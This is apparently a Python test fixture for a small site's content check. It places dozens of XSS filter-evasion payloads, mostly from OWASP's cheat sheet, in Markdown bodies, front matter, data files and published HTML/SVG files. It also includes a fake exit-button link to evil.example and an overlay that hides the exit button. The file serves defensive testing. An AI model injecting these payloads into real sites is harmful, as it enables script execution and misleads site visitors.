"""Injection attempts an editor with edit rights could make, mostly from OWASP's XSS filter-evasion
cheat sheet, each placed where an editor can write: a Markdown body, a front-matter field, a data file.

Every attempt is a file of a tiny site (tests/sitekit.py) and the line the problem is on. Attempts
the check refuses are `REFUSED`; those it lets through because the sanitiser removes them without a
trace (HTML comments) are `REMOVED`.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

from sitekit import VALID_EVENT, VALID_NEWSLETTER, VALID_RESOURCE, REPO

TITLE_LINE = {"resource": 3, "newsletter": 2, "event": 3}


@dataclass(frozen=True)
class Attempt:
    name: str
    path: str  # the file, relative to the site's root
    text: str  # its whole content (for data files: the replacement of one line, see `data`)
    line: int | None  # where the check must point (None: the file as a whole)
    replaces: str | None = None  # for data files: the line of the real file the payload replaces


def _resource(name: str, front: str = "", body: str = "", old: str | None = None, new: str | None = None) -> str:
    text = VALID_RESOURCE.replace("id: toolkit", f"id: {name}")
    if old is not None:
        assert old in text, old
        text = text.replace(old, new, 1)
    return text + body


_years = itertools.count(2040)  # one newsletter issue per quarter: a year of its own for each


def _newsletter() -> str:
    year = next(_years)
    return VALID_NEWSLETTER.replace("year: 2025", f"year: {year}").replace("published: 2025-03-14", f"published: {year}-03-14")


def body(name: str, payload: str, kind: str = "resource") -> Attempt:
    """`payload` in the Markdown body of a resource, issue, event or hand-written page, after a first paragraph."""
    if kind == "resource":
        path, start = f"content/resources/{name}.md", _resource(name)
    elif kind == "newsletter":
        path, start = f"content/newsletters/{name}.md", _newsletter()
    elif kind == "event":
        path, start = f"content/events/{name}.md", VALID_EVENT.replace("id: cop-2025-q1", f"id: {name}")
    else:
        path, start = f"docs/{name}.md", "---\ntitle: A page\n---\n\n# A page\n\nSome words.\n"
    text = start + "\n" + payload + "\n"
    return Attempt(name, path, text, start.count("\n") + 2 + payload.count("\n"))  # its last line (a reference's definition)


def field(name: str, kind: str, key: str, payload: str) -> Attempt:
    """`payload` as the value of front-matter field `key` (quoted as YAML needs it)."""
    quoted = "'" + payload.replace("'", "''") + "'"
    if kind == "resource":
        text, path = _resource(name), f"content/resources/{name}.md"
    elif kind == "event":
        text, path = VALID_EVENT.replace("id: cop-2025-q1", f"id: {name}"), f"content/events/{name}.md"
    elif kind == "newsletter":
        text, path = _newsletter(), f"content/newsletters/{name}.md"
    else:
        text, path = "---\ntitle: A page\n---\n\n# A page\n\nSome words.\n", f"docs/{name}.md"
    lines = text.split("\n")
    for number, line in enumerate(lines):
        if line.startswith(f"{key}:"):
            lines[number] = f"{key}: {quoted}"
            break
    else:  # a field the example does not have yet: added after the first line of front matter
        number = 1
        lines.insert(1, f"{key}: {quoted}")
    return Attempt(name, path, "\n".join(lines), number + 1)


def data(name: str, file: str, old: str, key: str, payload: str) -> Attempt:
    """`payload` as the value of `key` of the entry holding line `old` of content/data/`file`: in
    place of that line if it is `key`'s, else on a line of its own after it. `line` is found once
    every attempt on the file is written (`apply_data`)."""
    real = (REPO / "content/data" / file).read_text(encoding="utf-8")
    assert old + "\n" in real, old
    indent = old[: len(old) - len(old.lstrip())]
    quoted = "'" + payload.replace("'", "''") + "'"
    return Attempt(name, f"content/data/{file}", f"{indent}{key}: {quoted}", 0, replaces=old)


def apply_data(attempts: list[Attempt], root) -> list[Attempt]:
    """Write the data-file attempts into the site at `root`; the same attempts with their lines."""
    placed = []
    for attempt in attempts:
        file = root / attempt.path
        text = file.read_text(encoding="utf-8")
        old = attempt.replaces
        same_key = old.strip().split(":")[0] == attempt.text.strip().split(":")[0]
        text = text.replace(old + "\n", (attempt.text if same_key else old + "\n" + attempt.text) + "\n", 1)
        file.write_text(text, encoding="utf-8")
    for attempt in attempts:
        text = (root / attempt.path).read_text(encoding="utf-8")
        line = text[: text.index(attempt.text + "\n")].count("\n") + 1
        placed.append(Attempt(attempt.name, attempt.path, attempt.text, line, attempt.replaces))
    return placed


REFUSED: list[Attempt] = [
    # Markdown bodies: raw HTML
    body("script", "<script>alert('XSS')</script>"),
    body("script-src", "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>"),
    body("img-javascript", "<IMG SRC=\"javascript:alert('XSS');\">"),
    body("img-mixed-case", "<IMG SRC=JaVaScRiPt:alert('XSS')>"),
    body("img-grave-accents", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>"),
    body("malformed-img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">'),
    body("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    body("img-onerror-fromcharcode", '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'),
    body("decimal-entities", "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">x</a>"),
    body("hex-entities", "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29\">x</a>"),
    body("embedded-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">"),
    body("encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">"),
    body("leading-control-character", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">"),
    body("script-slash", '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'),
    body("body-onload-junk", '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'),
    body("extraneous-brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'),
    body("svg-onload", "<svg/onload=alert('XSS')>"),
    body("iframe", "<iframe src=\"javascript:alert('XSS');\"></iframe>"),
    body("meta-refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'),
    body("link-stylesheet", "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">"),
    body("style-background", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>"),
    body("base-href", "<BASE HREF=\"javascript:alert('XSS');//\">"),
    body("object", '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'),
    body("embed-svg", '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'),
    body("table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>x</TD></TR></TABLE>"),
    body("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    body("math-mglyph", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    body("fake-exit-button", '<a href="https://evil.example" class="tip-exit__button">Exit this page</a>'),
    body("cover-the-exit-button", '<p style="position:fixed;inset:0;z-index:99999;background:#fff">Nothing to see</p>'),
    body("clobber-config", '<div id="__config">{"base": "https://evil.example"}</div>'),
    # Markdown bodies: links in every Markdown form
    body("markdown-link", "[Click me](javascript:alert(1))"),
    body("markdown-link-entity", "[Click me](&#106;avascript:alert(1))"),
    body("markdown-link-control", "[Click me](java\x01script:alert(1))"),
    body("reference-link", "Read [the report][r].\n\n[r]: JaVaScRiPt:alert(1)"),
    body("autolink", "<javascript:alert(1)>"),
    body("attribute-list", '[Example](https://example.org){ onclick="alert(1)" }'),
    body("image-javascript", "![A chart](javascript:alert(1))"),
    body("image-data-svg", "![A chart](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    body("newsletter-link", "[Read more](vbscript:msgbox(1))", kind="newsletter"),
    body("event-svg", "<svg><script>alert(1)</script></svg>", kind="event"),
    body("page-script", "<script>alert(document.cookie)</script>", kind="page"),
    body("page-escaped-script", "&lt;script&gt;alert(1)&lt;/script&gt;", kind="page"),
    # Front matter, every kind of file
    field("title-script", "resource", "title", "<script>alert(1)</script>"),
    field("summary-breakout", "resource", "summary", '"><img src=x onerror=alert(1)>'),
    field("title-bold-handler", "resource", "title", "<b onmouseover=alert(1)>Bold</b>"),
    field("organisation-attribute", "resource", "organisation", '" onmouseover="alert(1)'),
    field("url-javascript", "resource", "url", "javascript:alert(1)"),
    field("url-quote", "resource", "url", 'https://example.org/"onmouseover="alert(1)'),
    field("newsletter-title-breakout", "newsletter", "title", "</title><script>alert(1)</script>"),
    field("newsletter-summary-entities", "newsletter", "summary", "&lt;img src=x onerror=alert(1)&gt;"),
    field("event-title", "event", "title", "<img src=x onerror=alert(1)>"),
    field("event-location", "event", "location", "<script>alert(1)</script>"),
    field("event-summary-javascript", "event", "summary", "Join us: javascript:alert(1)"),
    field("page-title", "page", "title", "<script>alert(1)</script>"),
    field("page-description", "page", "description", '" onmouseover="alert(1)'),
    field("page-content-note", "page", "content_note", "<img src=x onerror=alert(1)>"),
    field("page-theme-status", "page", "status", 'new" onmouseover="alert(1)'),
    # Data files
    data("group-name", "groups.yml", "  name: Trauma Informed Partnership Network", "name", "<img src=x onerror=alert(1)>"),
    data("group-meets", "groups.yml", "  meets: Quarterly, with meetings spread evenly across the year.", "meets", "[Join](javascript:alert(1))"),
    data("priority-title", "priorities.yml", "  title: Increase Awareness and Understanding", "title", '"><svg/onload=alert(1)>'),
    data("support-url", "support.yml", "    name: Emergency services", "url", "javascript:alert(1)"),
    data("support-phone", "support.yml", '    phone: "999"', "phone", "<script>alert(1)</script>"),
    data("support-hours", "support.yml", "    hours: 24 hours a day, every day", "hours", "Open { onclick=alert(1) }"),
    data("governance-name", "governance.yml", "    name: Strategic Partnership Board", "name", "<iframe src=javascript:alert(1)>"),
    data("sector-name", "sectors.yml", "  name: Health Authorities", "name", "<script>alert(1)</script>"),
    data("resource-type-name", "resource-types.yml", "  name: Guide", "name", "<img src=x onerror=alert(1)>"),
    data("audience-description", "audiences.yml", "  description: People in frontline and operational roles.", "description", "&#60;script&#62;alert(1)&#60;/script&#62;"),
]

REFUSED += [
    # Files that docs/ and content/ publish as they are
    Attempt("html-file", "docs/evil.html", "<!doctype html><script>alert(document.domain)</script>", None),
    Attempt("svg-with-script", "content/newsletters/images/chart.svg",
            '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script>\n</svg>\n', 2),
]

REMOVED: list[Attempt] = [
    body("comment-script", "<!--<script>alert('XSS')</script>-->"),
    body("conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    body("comment-in-newsletter", "<!-- <script>alert(1)</script> -->", kind="newsletter"),
]
